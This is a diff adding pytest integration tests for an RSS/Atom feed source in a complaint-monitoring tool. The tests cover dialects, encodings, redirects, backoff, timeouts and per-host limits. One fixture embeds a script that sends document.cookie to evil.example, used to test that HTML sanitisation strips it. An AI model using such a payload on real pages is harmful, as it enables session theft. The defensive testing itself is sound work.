@@ -1,0 +1,492 @@
+"""The RSS/Atom source against a real feed server on 127.0.0.1, through the real pipeline into SQLite."""
+
+from __future__ import annotations
+
+import json
+import logging
+import threading
+import time
+from dataclasses import dataclass
+from datetime import datetime, timedelta, timezone
+
+import pytest
+
+from monitor.config import load_config
+from monitor.health import format_status, status
+from monitor.links import canonical_url
+from monitor.pipeline import Pipeline
+from monitor.store import Store
+from sources.feed_entries import html_to_text
+from sources.feed_fetch import run_per_host
+from sources.feed_schedule import FeedState
+from sources.rss import RssSettings, RssSource, make_client
+from tests.servers import feeds as samples
+from tests.servers.feeds import atom, drip, padding, rss
+
+# A per-feed interval this short makes every poll find the feed due again.
+ALWAYS = 0.001
+
+
+@dataclass
+class Harness:
+    store: Store
+    source: RssSource
+    pipeline: Pipeline
+
+    def cycle(self):
+        poll = self.source.poll(self.store.source_state("rss"))
+        outcome = self.pipeline.process("rss", poll)
+        return poll, outcome
+
+    def state(self, url: str) -> dict:
+        return self.store.source_state("rss")[f"feed:{url}"]
+
+    def stored(self, url: str) -> list:
+        return self.store.query("SELECT * FROM mentions WHERE source = 'rss' AND source_id LIKE ? ORDER BY id",
+                                (f"{url}|%",))
+
+
+@pytest.fixture
+def monitor_feeds(write_config):
+    """Build the RSS source and pipeline from a real config file, store in a real SQLite file."""
+    built = []
+
+    def make(feed_list: list[dict], **settings) -> Harness:
+        config = load_config(write_config({"sources": {"rss": {"feeds": feed_list, **settings}}}))
+        rss_settings = RssSettings.model_validate(config.sources["rss"])
+        store = Store(config.store_path)
+        harness = Harness(store=store, source=RssSource(settings=rss_settings, client=make_client(rss_settings)),
+                          pipeline=Pipeline(config=config, store=store))
+        built.append(harness)
+        return harness
+
+    yield make
+    for harness in built:
+        harness.source.close()
+        harness.store.close()
+
+
+def complaint_feed(n: int, *, title: str = "Feed") -> str:
+    return rss([{"title": f"Acme broke my order {n}", "link": f"https://shop.example/{n}", "guid": f"g{n}",
+                 "description": f"Acme sent the wrong item, order {n}. I want a refund."}], title=title)
+
+
+# -- dialects and encodings --------------------------------------------------
+
+DIALECTS = {
+    "/rss091.xml": (samples.RSS_091, "Acme modem dies after a week"),
+    "/rss092.xml": (samples.RSS_092, "Ordered from Acme three weeks ago"),
+    "/rss10.rdf": (samples.RSS_10_RDF, "Acme firmware update bricked routers"),
+    "/rss20.xml": (samples.RSS_20, "still waiting for a refund"),
+    "/atom03.xml": (samples.ATOM_03, "Third lost package from Acme"),
+    "/atom10.xml": (samples.ATOM_10, "Acme overcharged me twice"),
+}
+
+
+def test_every_dialect_is_read_and_stored(feeds, monitor_feeds):
+    urls = {path: feeds.serve(path, body, content_type="application/xml") for path, (body, _) in DIALECTS.items()}
+    harness = monitor_feeds([{"url": url} for url in urls.values()])
+
+    poll, outcome = harness.cycle()
+
+    assert poll.failed == {}
+    assert sorted(poll.succeeded) == sorted(f"feed:{u}" for u in urls.values())
+    for path, (_, phrase) in DIALECTS.items():
+        rows = harness.stored(urls[path])
+        assert len(rows) == 1, path
+        assert phrase in rows[0]["text"], (path, rows[0]["text"])
+        assert rows[0]["url"].startswith(("http://", "https://")), rows[0]["url"]
+        state = harness.state(urls[path])
+        assert state["last_success"] and state["next_poll"] and state["etag"], path
+    rdf = harness.stored(urls["/rss10.rdf"])[0]
+    assert rdf["author"] == "timothy"
+    assert datetime.fromtimestamp(rdf["created_at"], timezone.utc) == datetime(2026, 11, 22, 8, 30, tzinfo=timezone.utc)
+    # xml:base resolves the Atom entry's relative link and the link inside its content.
+    atom10 = harness.stored(urls["/atom10.xml"])[0]
+    assert atom10["url"] == "https://forum.example/community/threads/42#post-1"
+    assert "https://forum.example/community/threads/42/receipt" in atom10["text"]
+    assert json.loads(atom10["extra"])["canonical_url"] == "https://forum.example/community/threads/42"
+    # HTML entities and CDATA in RSS 2.0; the relative link resolved against where the feed was fetched.
+    rss20 = harness.stored(urls["/rss20.xml"])[0]
+    assert rss20["title"] == "Acme\u2019s new blender: a refund nightmare"
+    assert rss20["author"] == "Jo Reviewer"
+    assert rss20["url"] == feeds.url + "/2026/11/acme-blender/?utm_source=rss&utm_medium=rss"
+    assert json.loads(rss20["extra"])["canonical_url"] == feeds.url + "/2026/11/acme-blender"
+    assert f"[Contact]({feeds.url}/contact)" in rss20["text"]
+    assert outcome.stored and len(outcome.stored) == len(DIALECTS)
+
+
+@pytest.mark.parametrize("body, content_type, title, text", [
+    (samples.WINDOWS_1252, "application/rss+xml", "Acme caf\u00e9 machine: \u201cnever again\u201d", "Paid \u20ac200"),
+    (samples.ISO_8859_1, "text/xml", "Acme in der Stra\u00dfe: sehr \u00e4rgerlich", "\u00c4rgerlich!"),
+    # The HTTP header and the XML both claim UTF-8; the bytes are windows-1252.
+    (samples.MISDECLARED, "application/rss+xml; charset=utf-8", "Acme na\u00efve pricing",
+     "Acme\u2019s na\u00efve pricing cost me \u20ac50"),
+], ids=["windows-1252", "iso-8859-1", "misdeclared"])
+def test_non_utf8_encodings_are_decoded(feeds, monitor_feeds, body, content_type, title, text):
+    url = feeds.serve("/enc.xml", body, content_type=content_type)
+    harness = monitor_feeds([{"url": url}])
+
+    poll, _ = harness.cycle()
+
+    assert poll.failed == {}
+    [row] = harness.stored(url)
+    assert row["title"] == title
+    assert text in row["text"]
+
+
+def test_illformed_xml_keeps_the_parsed_entries_and_logs_the_problem(feeds, monitor_feeds, caplog):
+    url = feeds.serve("/broken.xml", samples.ILLFORMED)
+    harness = monitor_feeds([{"url": url, "name": "Broken blog"}])
+
+    with caplog.at_level(logging.WARNING, logger="complaint_monitor.sources.rss"):
+        poll, _ = harness.cycle()
+
+    assert poll.failed == {}
+    titles = [r["title"] for r in harness.stored(url)]
+    assert titles == ["Acme support hung up on me", "Acme billing is a mess"]
+    assert "not well-formed" in harness.state(url)["last_problem"]
+    assert any("Broken blog" in r.message and "not well-formed" in r.message for r in caplog.records)
+
+
+def test_garbage_instead_of_a_feed_is_a_failure_with_a_reason(feeds, monitor_feeds):
+    url = feeds.serve("/garbage", b"\x00\x01 this is <<< not xml at all", content_type="application/octet-stream")
+    harness = monitor_feeds([{"url": url}])
+
+    poll, _ = harness.cycle()
+
+    assert "not a feed" in poll.failed[f"feed:{url}"]
+    assert harness.state(url)["failures"] == 1
+
+
+def test_html_and_script_become_plain_text_with_links_kept(feeds, monitor_feeds):
+    html = ('<div class="post"><h2>Acme &amp; me</h2><p>Acme&#8217;s support <b>ignored</b> me.</p>'
+            '<script>document.location="https://evil.example/"+document.cookie</script>'
+            '<style>p { color: red }</style><p>Proof: <a href="/proof.png">screenshot</a> and '
+            '<a href="https://status.example/acme?utm_campaign=x">status page</a>.</p></div>')
+    url = feeds.serve("/html.xml", atom([{"title": "Acme support", "id": "urn:html:1", "link": "/post/1",
+                                          "content": html}]))
+    harness = monitor_feeds([{"url": url}])
+
+    harness.cycle()
+
+    [row] = harness.stored(url)
+    text = row["text"]
+    assert "<" not in text and "document.cookie" not in text and "color: red" not in text
+    assert "Acme's support ignored me." in text  # html2text writes typographic quotes plainly
+    assert "Acme & me" in text
+    assert f"[screenshot]({feeds.url}/proof.png)" in text
+    assert "https://status.example/acme?utm_campaign=x" in text
+    assert row["url"] == feeds.url + "/post/1"
+
+
+def test_html_to_text_leaves_plain_text_alone():
+    assert html_to_text("  Acme is fine  ") == "Acme is fine"
+    assert html_to_text("<p>a <a href='x'>b</a></p>", base_url="https://h.example/d/") == \
+        "a [b](https://h.example/d/x)"
+
+
+# -- identity ----------------------------------------------------------------
+
+def test_entry_updated_in_place_is_not_a_new_mention(feeds, monitor_feeds):
+    entry = {"title": "Acme lost my bag", "id": "urn:bag:1", "link": "https://blog.example/bag",
+             "updated": "2026-11-22T10:00:00Z", "content": "Acme lost my bag."}
+    url = feeds.serve("/edits.xml", atom([entry]))
+    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])
+    harness.cycle()
+
+    feeds.serve("/edits.xml", atom([{**entry, "updated": "2026-11-22T12:00:00Z",
+                                     "content": "UPDATE: Acme found my bag, still annoyed."}]))
+    poll, outcome = harness.cycle()
+
+    assert len(poll.mentions) == 1 and outcome.stored == []
+    assert [r["text"] for r in harness.stored(url)] == ["Acme lost my bag."]
+
+
+def test_entries_without_id_date_or_link_get_stable_ids(feeds, monitor_feeds):
+    url = feeds.serve("/bare.xml", samples.BARE_ENTRIES, conditional=False)
+    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])
+
+    first, _ = harness.cycle()
+    second, outcome = harness.cycle()
+
+    ids = [m.source_id for m in first.mentions]
+    assert len(set(ids)) == 2
+    assert [m.source_id for m in second.mentions] == ids
+    assert outcome.stored == []
+    rows = harness.stored(url)
+    assert len(rows) == 2
+    assert all(r["url"] == url for r in rows)  # no link: the feed itself is the best link there is
+
+
+@pytest.mark.parametrize("raw, canonical", [
+    ("https://News.Example.COM:443/a/story/?utm_source=rss&utm_medium=feed&id=7&fbclid=abc#comments",
+     "https://news.example.com/a/story?id=7"),
+    ("http://news.example.com:80/a/story?gclid=1&ref=hn", "http://news.example.com/a/story"),
+    ("https://news.example.com/a/story?b=2&a=1", "https://news.example.com/a/story?a=1&b=2"),
+    ("https://news.example.com:8443/", "https://news.example.com:8443/"),
+    ("https://news.example.com", "https://news.example.com/"),
+    ("mailto:someone@example.com", "mailto:someone@example.com"),
+    ("not a url", "not a url"),
+])
+def test_canonical_url(raw, canonical):
+    assert canonical_url(raw) == canonical
+
+
+def test_same_story_in_two_feeds_has_one_canonical_url(feeds, monitor_feeds):
+    a = feeds.serve("/a.xml", rss([{"title": "Acme recall", "link": "https://news.example/recall?utm_source=a",
+                                    "guid": "a1", "description": "Acme recalls kettles"}]))
+    b = feeds.serve("/b.xml", rss([{"title": "Acme recall!", "link": "https://NEWS.example/recall/#top",
+                                    "guid": "b1", "description": "Acme recalls kettles"}]))
+    harness = monitor_feeds([{"url": a}, {"url": b}])
+
+    harness.cycle()
+
+    extras = [json.loads(r["extra"]) for r in harness.store.query("SELECT extra FROM mentions ORDER BY id")]
+    assert len(extras) == 2
+    assert {e["canonical_url"] for e in extras} == {"https://news.example/recall"}
+
+
+# -- politeness --------------------------------------------------------------
+
+def test_conditional_get_answers_304_and_nothing_is_parsed(feeds, monitor_feeds):
+    url = feeds.serve("/cond.xml", complaint_feed(1))
+    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])
+    harness.cycle()
+    first_success = harness.state(url)["last_success"]
+
+    poll, outcome = harness.cycle()
+
+    assert feeds.statuses("/cond.xml") == [200, 304]
+    assert feeds.requests[-1][1]["If-None-Match"] == harness.state(url)["etag"]
+    assert poll.mentions == [] and poll.succeeded == [f"feed:{url}"]
+    assert harness.state(url)["last_success"] >= first_success
+    assert len(harness.stored(url)) == 1
+
+
+def test_last_modified_alone_gives_a_304_too(feeds, monitor_feeds):
+    url = feeds.serve("/lm.xml", complaint_feed(1), send_etag=False, last_modified=time.time() - 3600)
+    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])
+
+    harness.cycle()
+    harness.cycle()
+
+    assert feeds.statuses("/lm.xml") == [200, 304]
+    assert "If-None-Match" not in feeds.requests[-1][1]
+    assert harness.state(url)["etag"] is None and harness.state(url)["last_modified"]
+
+
+def test_permanent_redirect_updates_the_stored_url_and_keeps_identity(feeds, monitor_feeds):
+    new = feeds.serve("/new.xml", complaint_feed(1))
+    old = feeds.serve("/old.xml", b"", status=301, headers={"Location": new}, conditional=False)
+    harness = monitor_feeds([{"url": old, "interval": ALWAYS}])
+
+    harness.cycle()
+    harness.cycle()
+
+    assert feeds.hits("/old.xml") == 1 and feeds.hits("/new.xml") == 2
+    state = harness.state(old)
+    assert state["current_url"] == new
+    assert f"feed:{new}" not in harness.store.source_state("rss")
+    [row] = harness.stored(old)  # the mention still belongs to the configured feed
+    assert row["source_id"].startswith(f"{old}|")
+    assert "moved to " + new in format_status(status(harness.store, {"rss": 300}))
+
+
+def test_temporary_redirect_does_not_change_the_stored_url(feeds, monitor_feeds):
+    target = feeds.serve("/target.xml", complaint_feed(1))
+    temp = feeds.serve("/temp.xml", b"", status=302, headers={"Location": target}, conditional=False)
+    # Permanent, then temporary: only the permanent hop counts.
+    hop = feeds.serve("/hop.xml", b"", status=308, headers={"Location": temp}, conditional=False)
+    harness = monitor_feeds([{"url": temp, "interval": ALWAYS}, {"url": hop, "interval": ALWAYS}], per_host=1)
+
+    harness.cycle()
+    harness.cycle()
+
+    assert harness.state(temp)["current_url"] is None
+    assert harness.state(hop)["current_url"] == temp
+    assert feeds.hits("/temp.xml") == 4 and feeds.hits("/hop.xml") == 1
+
+
+def test_gone_disables_the_feed_with_a_reason_status_shows(feeds, monitor_feeds, caplog):
+    url = feeds.serve("/gone.xml", b"gone", status=410, content_type="text/plain")
+    alive = feeds.serve("/alive.xml", complaint_feed(1))
+    harness = monitor_feeds([{"url": url, "name": "Dead blog", "interval": ALWAYS}, {"url": alive}])
+
+    with caplog.at_level(logging.WARNING, logger="complaint_monitor.sources.rss"):
+        poll, _ = harness.cycle()
+    harness.cycle()
+
+    assert "410" in poll.failed[f"feed:{url}"]
+    assert feeds.hits("/gone.xml") == 1  # never asked again
+    state = harness.state(url)
+    assert state["disabled"] is True and "410 Gone" in state["disabled_reason"]
+    assert any("Dead blog" in r.message and "disabled" in r.message for r in caplog.records)
+    report = format_status(status(harness.store, {"rss": 300}))
+    assert f"feed {url}: disabled: 410 Gone" in report
+    assert f"feed {alive}: ok; last success 20" in report
+
+
+@pytest.mark.parametrize("status_code, retry_after, expected_wait", [
+    (429, "120", 120),
+    (503, "Fri, 31 Dec 2100 23:59:59 GMT", 7 * 86400),  # an HTTP date; this far off is taken as a week
+])
+def test_retry_after_is_honoured(feeds, monitor_feeds, status_code, retry_after, expected_wait):
+    url = feeds.serve("/busy.xml", b"slow down", status=status_code, content_type="text/plain",
+                      headers={"Retry-After": retry_after})
+    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])
+
+    poll, _ = harness.cycle()
+    harness.cycle()
+
+    assert f"HTTP {status_code}" in poll.failed[f"feed:{url}"]
+    assert feeds.hits("/busy.xml") == 1  # the second poll waited as told
+    state = harness.state(url)
+    wait = (datetime.fromisoformat(state["next_poll"]) - datetime.now(timezone.utc)).total_seconds()
+    assert expected_wait - 5 <= wait <= expected_wait
+    assert state["failures"] == 1 and state["last_error"].startswith(f"HTTP {status_code}")
+
+
+def test_failures_back_off_exponentially_up_to_the_cap():
+    state = FeedState()
+    now = datetime(2026, 11, 23, tzinfo=timezone.utc)
+    delays = [state.failed(now, "HTTP 500", interval=300, max_backoff=3600) for _ in range(6)]
+    assert delays == [300, 600, 1200, 2400, 3600, 3600]
+    assert state.failures == 6 and not state.is_due(now + timedelta(seconds=3599))
+    assert state.is_due(now + timedelta(seconds=3600))
+    state.succeeded(now, interval=300)
+    assert state.failures == 0 and state.next_poll == "2026-11-23T00:05:00+00:00"
+
+
+def test_a_failing_feed_backs_off_and_recovers(feeds, monitor_feeds):
+    url = feeds.serve("/flaky.xml", b"oops", status=500, content_type="text/plain")
+    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])
+
+    harness.cycle()
+    harness.cycle()
+    assert harness.state(url)["failures"] == 2
+    assert "HTTP 500" in format_status(status(harness.store, {"rss": 300}))
+
+    feeds.serve("/flaky.xml", complaint_feed(1))
+    poll, _ = harness.cycle()
+    assert poll.succeeded == [f"feed:{url}"]
+    assert harness.state(url)["failures"] == 0 and len(harness.stored(url)) == 1
+
+
+def test_each_feed_keeps_its_own_interval(feeds, monitor_feeds):
+    hourly = feeds.serve("/hourly.xml", complaint_feed(1))
+    eager = feeds.serve("/eager.xml", complaint_feed(2))
+    harness = monitor_feeds([{"url": hourly, "interval": 3600}, {"url": eager, "interval": ALWAYS}], interval=600)
+
+    assert harness.source.interval == ALWAYS  # the job runs as often as the most eager feed wants
+    harness.cycle()
+    poll, _ = harness.cycle()
+
+    assert feeds.hits("/hourly.xml") == 1 and feeds.hits("/eager.xml") == 2
+    assert poll.succeeded == [f"feed:{eager}"]
+    next_poll = datetime.fromisoformat(harness.state(hourly)["next_poll"])
+    assert 3590 < (next_poll - datetime.now(timezone.utc)).total_seconds() <= 3600
+
+
+# -- unbreakable -------------------------------------------------------------
+
+def test_a_50_mb_body_is_cut_off_at_the_limit_and_its_entries_kept(feeds, monitor_feeds, caplog):
+    head = complaint_feed(1).replace("</channel></rss>", "")
+    url = feeds.serve("/huge.xml", head, stream=padding(50_000_000), conditional=False)
+    harness = monitor_feeds([{"url": url}])  # the default max_bytes: 10 MB
+
+    with caplog.at_level(logging.WARNING, logger="complaint_monitor.sources.rss"):
+        poll, _ = harness.cycle()
+
+    assert poll.failed == {}
+    assert len(harness.stored(url)) == 1
+    assert "cut off at 10000000 bytes" in harness.state(url)["last_problem"]
+    assert any("cut off" in r.message for r in caplog.records)
+
+
+@pytest.mark.parametrize("encoding", ["gzip", "deflate"])
+def test_compressed_bodies(feeds, monitor_feeds, encoding):
+    url = feeds.serve("/packed.xml", samples.ATOM_10, compress=encoding, content_type="application/atom+xml")
+    harness = monitor_feeds([{"url": url}])
+
+    poll, _ = harness.cycle()
+
+    assert poll.failed == {}
+    assert "Acme overcharged me twice" in harness.stored(url)[0]["text"]
+
+
+def test_hanging_and_dripping_feeds_time_out_without_blocking_the_others(feeds, monitor_feeds):
+    hang = feeds.serve("/hang.xml", complaint_feed(0), delay=3600)
+    slow = feeds.serve("/drip.xml", complaint_feed(0).replace("</rss>", ""), stream=drip(0.05), conditional=False)
+    good = [feeds.serve(f"/ok{n}.xml", complaint_feed(n)) for n in range(1, 21)]
+    harness = monitor_feeds([{"url": hang}, {"url": slow}, *({"url": u} for u in good)],
+                            timeout=1, deadline=2, per_host=3)
+
+    finished = threading.Event()
+    result = {}
+
+    def run():
+        result["poll"], _ = harness.cycle()
+        finished.set()
+
+    worker = threading.Thread(target=run, daemon=True)
+    worker.start()
+    assert finished.wait(60), "the cycle never finished"
+    poll = result["poll"]
+
+    assert "Timeout" in poll.failed[f"feed:{hang}"]
+    assert "DeadlineExceeded" in poll.failed[f"feed:{slow}"]
+    assert sorted(poll.succeeded) == sorted(f"feed:{u}" for u in good)
+    assert all(len(harness.stored(u)) == 1 for u in good)
+    assert "Timeout" in harness.state(hang)["last_error"]
+
+
+# -- scale and politeness per host -------------------------------------------
+
+def test_feeds_are_fetched_concurrently_but_at_most_per_host_at_once(feeds, monitor_feeds):
+    urls = [feeds.serve(f"/slow{n}.xml", complaint_feed(n), delay=0.2) for n in range(8)]
+    harness = monitor_feeds([{"url": u} for u in urls], per_host=2, workers=8)
+
+    poll, outcome = harness.cycle()
+
+    assert len(poll.succeeded) == 8 and len(outcome.stored) == 8
+    assert feeds.max_in_flight == 2
+
+
+def test_run_per_host_spreads_work_across_hosts_within_limits():
+    in_flight: dict[str, int] = {}
+    peak: dict[str, int] = {}
+    total_peak = [0]
+    lock = threading.Lock()
+
+    def work(job):
+        host, n = job
+        with lock:
+            in_flight[host] = in_flight.get(host, 0) + 1
+            peak[host] = max(peak.get(host, 0), in_flight[host])
+            total_peak[0] = max(total_peak[0], sum(in_flight.values()))
+        time.sleep(0.02)
+        with lock:
+            in_flight[host] -= 1
+        return n
+
+    jobs = [(f"h{n % 5}", n) for n in range(40)]
+    done = run_per_host(jobs, work, host=lambda job: job[0], workers=6, per_host=2)
+
+    assert sorted(done) == list(range(40))
+    assert max(peak.values()) == 2 and total_peak[0] <= 6
+
+
+def test_status_shows_each_feeds_last_success_error_and_next_poll(feeds, monitor_feeds):
+    ok = feeds.serve("/fine.xml", complaint_feed(1))
+    down = feeds.serve("/down.xml", b"", status=502, content_type="text/plain")
+    harness = monitor_feeds([{"url": ok}, {"url": down}])
+
+    harness.cycle()
+
+    report = format_status(status(harness.store, {"rss": 300}))
+    ok_state, down_state = harness.state(ok), harness.state(down)
+    assert (f"feed {ok}: ok; last success {ok_state['last_success']}; last error none;"
+            f" next poll {ok_state['next_poll']}") in report
+    assert (f"feed {down}: failing (1 in a row); last success never; last error {down_state['last_error_at']}"
+            f" HTTP 502") in report
